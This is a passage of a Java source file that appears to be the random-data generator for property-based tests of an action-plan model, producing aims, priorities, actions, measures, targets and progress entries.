                                    timings().optional(0.5))
                            .as((recurrence, at, timing) -> (about, ground) ->
                                    new Measure.Recurring(about, recurrence, at, timing.map(time -> time.of(ground)))),
                    timings()
                            .optional(0.5)
                            .map(timing -> (about, ground) ->
                                    new Measure.Deliverable(about, timing.map(time -> time.of(ground)))));
        }

        private Arbitrary<Yardstick> counts() {
            return Combinators.combine(
                            figures(),
                            timings().optional(0.5),
                            countTargets().list().ofMaxSize(3))
                    .as((target, timing, dated) -> (about, ground) -> new Measure.Count(
                            about,
                            target,
                            timing.map(time -> time.of(ground)),
                            dated.stream()
                                    .map(item -> inUnitOf(target, item.of(ground)))
                                    .collect(toImmutableList())));
        }

        private Arbitrary<Within<Measure.CountTarget>> countTargets() {
            return Combinators.combine(figures(), timings())
                    .as((target, timing) -> ground -> new Measure.CountTarget(target, timing.of(ground)));
        }

        /** A target on the way has the unit of the count's own, or none. */
        private static Measure.CountTarget inUnitOf(Figure own, Measure.CountTarget dated) {
            String unit = own.known().map(Quantity::unit).orElse("");
            return dated.target()
                    .known()
                    .map(number -> new Measure.CountTarget(Quantity.of(whole(number.amount()), unit), dated.timing()))
                    .orElse(dated);
        }

        private static BigDecimal whole(BigDecimal number) {
            return new BigDecimal(number.abs().toBigInteger());
        }

        private Arbitrary<Yardstick> levels() {
            return Combinators.combine(
                            Arbitraries.of(Measure.Goal.class),
                            figures().optional(0.5),
                            figures(),
                            Arbitraries.of(true, false),
                            Combinators.combine(
                                            timings().optional(0.3), timings().optional(0.5))
                                    .as(Tuple::of),
                            quantities().optional(0.3),
                            levelTargets().list().ofMaxSize(2))
                    .as((goal, baseline, target, isAgreed, times, tolerance, dated) -> (about, ground) -> {
                        boolean moves = goal == Measure.Goal.REDUCE || goal == Measure.Goal.INCREASE;
                        boolean isBound = goal == Measure.Goal.AT_LEAST || goal == Measure.Goal.AT_MOST;
                        return new Measure.Level(
                                about,
                                goal,
                                baseline.filter(figure -> moves),
                                times.get1()
                                        .filter(time -> moves && baseline.isPresent())
                                        .map(time -> time.of(ground).when())
                                        // Of others the language keeps the days, not the words.
                                        .filter(time -> !OF_SEVERAL_TIMES
                                                .matcher(time.words())
                                                .find()),
                                Optional.of(target).filter(figure -> isAgreed || isBound),
                                times.get2().map(time -> time.of(ground)),
                                tolerance,
                                dated.stream().map(item -> item.of(ground)).collect(toImmutableList()));
                    });
        }

        private Arbitrary<Within<Measure.LevelTarget>> levelTargets() {
            return Combinators.combine(datedGoals, figures(), timings())
                    .as((goal, target, timing) -> ground -> new Measure.LevelTarget(goal, target, timing.of(ground)));
        }

        private Arbitrary<Figure> figures() {
            Arbitrary<Figure> unknown = Combinators.combine(Arbitraries.of("tbc", "TBC"), units)
                    .as((word, unit) -> new Figure.ToBeConfirmed(word + " " + unit));
            return Arbitraries.frequencyOf(Tuple.of(5, quantities().map(quantity -> quantity)), Tuple.of(1, unknown));
        }

        private Arbitrary<Quantity> quantities() {
            Arbitrary<String> numbers = Arbitraries.oneOf(
                    Arbitraries.of(
                            "0", "-3", "5.20", "1,200", "£12,500", "-£5", "0.1", "123456789012345678901234567.89"),
                    Arbitraries.integers().between(1, 100_000).map(String::valueOf));
            // A unit that begins with a digit would be more of the number, which is none then.
            return Combinators.combine(numbers, units)
                    .as((number, unit) -> QuantityParser.parse(number + (unit.equals("%") ? "" : " ") + unit)
                            .toOptional())
                    .filter(Optional::isPresent)
                    .map(Optional::orElseThrow);
        }

        private Arbitrary<Recurrence> recurrences() {
            return Arbitraries.oneOf(
                    Arbitraries.of(Recurrence.Frequency.class).map(Recurrence::of),
                    Arbitraries.of(Month.class).map(Recurrence::every));
        }

        private Arbitrary<Reporting> reportings() {
            return Arbitraries.oneOf(
                    Arbitraries.of(Recurrence.Frequency.class).map(Reporting.Every::new),
                    Arbitraries.integers()
                            .between(1, 4)
                            .set()
                            .ofMinSize(1)
                            .map(quarters -> new Reporting.InQuarters(ImmutableSortedSet.copyOf(quarters))));
        }

        private Arbitrary<Within<Timing>> timings() {
            return Combinators.combine(Arbitraries.of(Timing.Bound.class), times)
                    .as((bound, when) -> ground -> new Timing(bound, when.of(ground)));
        }

        private Arbitrary<Entry> entries() {
            return Combinators.combine(
                            times.optional(0.7),
                            numbers().optional(0.4),
                            numbers().optional(0.5),
                            shares().optional(0.2),
                            readings().list().ofMaxSize(2),
                            spendings().optional(0.2),
                            texts.optional(0.6),
                            visibilities())
                    .as(Entry::new);
        }

        private Arbitrary<Spending> spendings() {
            return Combinators.combine(sums().filter(sum -> sum.amount().signum() >= 0), Arbitraries.of(true, false))
                    .as(Spending::new);
        }

        private Arbitrary<BigDecimal> shares() {
            return Arbitraries.oneOf(
                    Arbitraries.of("0", "100", "100.0", "33.3", "99.999999").map(BigDecimal::new),
                    Arbitraries.integers().between(0, 100).map(BigDecimal::valueOf));
        }

        private Arbitrary<ReadingDraft> readings() {
            Arbitrary<Reading.Value> values = Arbitraries.oneOf(
                    quantities().map(Reading.Amount::new),
                    quantities().map(Reading.ToDate::new),
                    Combinators.combine(quantities(), quantities()).as(Reading.Ratio::new),
                    Combinators.combine(quantities(), quantities()).as(Reading.Compared::new),
                    Arbitraries.just(new Reading.Delivered()));
            return Combinators.combine(numbers(), values).as(ReadingDraft::new);
        }

        private static Arbitrary<Visibility> visibilities() {
            return Arbitraries.frequency(
                    Tuple.of(4, Visibility.PUBLIC),
                    Tuple.of(1, Visibility.PARTNERS),
                    Tuple.of(1, Visibility.RESTRICTED));
        }

        /** Which of several things, whatever their number turns out to be. */
        private static Arbitrary<Integer> numbers() {
            return Arbitraries.integers().between(0, 5);
        }

        private static Arbitrary<List<Integer>> picks() {
            return numbers().list().ofMaxSize(3);
        }
    }

    // What is drawn before it is known what else the plan has

    /** Something that is whole only within a plan: its references lead to what is there, its times are of its years. */
    private interface Within<T> {
        T of(Ground ground);
    }

    /** What things refer to, and what their words depend on. */
    private record Ground(
            Month yearStart,
            ImmutableList<Status> statuses,
            ImmutableList<AgencyId> agencies,
            ImmutableList<AimId> aims,
            ImmutableList<PriorityId> priorities,
            ImmutableList<ActionId> actions) {

        /** What a setting can be for. */
        ImmutableList<ElementId> elements() {
            return ImmutableList.<ElementId>builder()
                    .addAll(agencies)
                    .addAll(aims)
                    .addAll(priorities)
                    .addAll(actions)
                    .build();
        }

        When time(int number) {
            ImmutableList<When> times = TIMES_BY_YEAR_START.get(yearStart);
            return times.get(number % times.size());
        }
    }

    /**
     * Where the parts of one owner come together.
     *
     * @param index of the owner among the plan's actions
     * @param met what may stand only once, as far as it was met
     */
    private record Scene(Ground ground, int index, Set<Object> met) {

        boolean isFirst(String kind, Object what) {
            return met.add(List.of(kind, what));
        }

        <T> ImmutableList<T> picked(ImmutableList<T> items, List<Integer> picks, String kind) {
            return PlanDomain.picked(items, picks).stream()
                    .filter(item -> isFirst(kind, item))
                    .collect(toImmutableList());
        }

        ImmutableList<ActionId> actionsAbove() {
            return ground.actions().subList(0, index);
        }
    }

    private interface Part<B> {
        void addTo(B builder, Scene scene);
    }

    private interface Yardstick {
        Measure on(Measure.About about, Ground ground);
    }

    private record Heading(String id, String title, List<Part<ActionPlan.Builder>> parts) {}

    /** An aim or a priority before it is known which: the two kinds share their ids. */
    private record ObjectiveDraft(
            String id,
            String text,
            boolean isAim,
            List<String> covers,
            List<Integer> supports,
            Set<Strand> strands,
            Optional<Within<When>> period,
            Story story) {

        Aim aim(Ground ground) {
            ImmutableList<Measure> measures = Story.measures(story.measures(), ground);
            return new Aim(
                    AimId.of(id),
                    text,
                    ImmutableList.copyOf(covers),
                    ImmutableList.copyOf(story.notes()),
                    measures,
                    story.progress(ground, measures, false));
        }

        Priority priority(Ground ground) {
            ImmutableList<Measure> measures = Story.measures(story.measures(), ground);
            return new Priority(
                    PriorityId.of(id),
                    text,
                    picked(ground.aims(), supports),
                    ImmutableList.copyOf(strands),
                    period.map(when -> when.of(ground)),
                    ImmutableList.copyOf(story.notes()),
                    measures,
                    story.progress(ground, measures, false));
        }
    }

    private record ActionDraft(ActionId id, String title, List<Part<Action.Builder>> parts, Story story) {

        Action action(Ground ground) {
            Action.Builder action = Action.builder(id, title);
            Scene scene = new Scene(ground, ground.actions().indexOf(id), new HashSet<>());
            parts.forEach(part -> part.addTo(action, scene));
            story.notes().forEach(action::note);
            ImmutableList<Measure> measures = Story.measures(story.measures(), ground);
            measures.forEach(action::measure);
            ImmutableList<Progress> progress = story.progress(ground, measures, true);
            Action told = action.build();
            // Every second entry with a time says that one of the milestones is reached.
            for (int i = 0; i < progress.size(); i++) {
                Progress entry = progress.get(i);
                boolean reaches = i % 2 == 0
                        && entry.when().isPresent()
                        && !told.milestones().isEmpty();
                action.progress(
                        reaches
                                ? entry.only(
                                                entry.readings(),
                                                ImmutableList.of(told.milestones()
                                                        .get(i
                                                                % told.milestones()
                                                                        .size())
                                                        .id()))
                                        .orElseThrow()
                                : entry);
            }
            return action.build();
        }
    }

    /** What is noted, measured and told of one thing. */
    private record Story(List<Note> notes, List<Within<Measure>> measures, List<Entry> progress) {

        /** The measures, of which every second one is part of the first or the last. */
        static ImmutableList<Measure> measures(List<Within<Measure>> drafts, Ground ground) {
            ImmutableList<Measure> measures =
                    distinct(drafts.stream().map(draft -> draft.of(ground)).toList(), Measure::id);
            ImmutableList.Builder<Measure> linked = ImmutableList.builder();
            for (int i = 0; i < measures.size(); i++) {
                Measure measure = measures.get(i);
                boolean isPart =
                        i > 0 && i < measures.size() - 1 && measure.tier().isPresent();
                Measure whole = measures.get(measure.text().length() % 2 == 0 ? 0 : measures.size() - 1);
                linked.add(isPart ? measure.about(measure.about().partOf(whole.id())) : measure);
            }
            return linked.build();
        }

        /** @param ofAction whether it is told of an action, which alone costs something */
        ImmutableList<Progress> progress(Ground ground, ImmutableList<Measure> of, boolean ofAction) {
            return progress.stream()
                    .flatMap(entry -> entry.progress(ground, of, ofAction).stream())
                    .collect(toImmutableList());
        }
    }

    private record ReadingDraft(int measure, Reading.Value value) {}

    private record Entry(
            Optional<Within<When>> when,
            Optional<Integer> teller,
            Optional<Integer> status,
            Optional<BigDecimal> share,
            List<ReadingDraft> readings,
            Optional<Spending> spent,
            Optional<String> text,
            Visibility visibility) {

        /** The entry; none if nothing of it can stand in this plan. */
        Optional<Progress> progress(Ground ground, ImmutableList<Measure> measures, boolean ofAction) {
            ImmutableList<Reading> read = measures.isEmpty()
                    ? ImmutableList.of()
                    : distinct(
                            readings.stream()
                                    .map(draft -> new Reading(
                                            measures.get(draft.measure() % measures.size())
                                                    .id(),
                                            draft.value()))
                                    .toList(),
                            Reading::measure);
            boolean says =
                    when.isPresent() || status.isPresent() || share.isPresent() || !read.isEmpty() || text.isPresent();
            // Own words come after the usual ones, and must come up as often.
            ImmutableList<Status> scale = Status.scale(ground.statuses()).reverse();
            return says
                    ? Optional.of(new Progress(
                            when.map(time -> time.of(ground)),
                            teller.filter(agency -> when.isPresent())
                                    .flatMap(agency -> picked(ground.agencies(), List.of(agency)).stream()
                                            .findFirst()),
                            status.map(number -> scale.get(number % scale.size())),
                            share,
                            read,
                            ImmutableList.of(),
                            spent.filter(sum -> ofAction && when.isPresent()),
                            text,
                            visibility))
                    : Optional.empty();
        }
    }

    /** Some of these, none twice. */
    private static <T> ImmutableList<T> picked(ImmutableList<T> items, List<Integer> picks) {
        return items.isEmpty()
                ? ImmutableList.of()
                : picks.stream()
                        .map(pick -> items.get(pick % items.size()))
                        .distinct()
                        .collect(toImmutableList());
    }

    /** The first of each id. */
    private static <T, I> ImmutableList<T> distinct(List<T> items, Function<T, I> id) {
        Set<I> met = new HashSet<>();
        return items.stream().filter(item -> met.add(id.apply(item))).collect(toImmutableList());
    }

    private static <T, I> ImmutableList<I> idsOf(List<T> items, Function<T, I> id) {
        return items.stream().map(id).collect(toImmutableList());
    }
}
